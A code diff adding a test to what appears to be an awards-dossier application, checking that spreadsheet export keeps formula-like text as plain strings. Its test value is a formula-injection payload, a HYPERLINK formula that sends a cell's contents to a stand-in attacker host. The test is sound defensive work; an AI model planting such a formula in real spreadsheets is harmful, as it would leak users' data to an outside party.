@@ -41,3 +41,16 @@ def test_summary_workbook_has_units_and_people(rolled):
     people = rows(book["Cá nhân"])
     assert len(people) == 1 + 8
     assert people[1][5] == 500_000
+
+
+def test_text_that_looks_like_a_formula_stays_text(rolled):
+    from awards import services
+
+    line = rolled.dossier.lines.get(unit__code="AAA")
+    trap = '=HYPERLINK("http://evil.example/x?"&A1,"Xem minh chứng")'
+    services.individual_add(user=rolled.compiler, line=line, person=rolled.people["AAA"][0],
+                            achievement=trap)
+    context = selectors.document_context(selectors.dossier_for_page(rolled.dossier.pk))
+    sheet = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))["Danh sách khen thưởng"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == trap]
+    assert cells and all(cell.data_type == "s" for cell in cells)
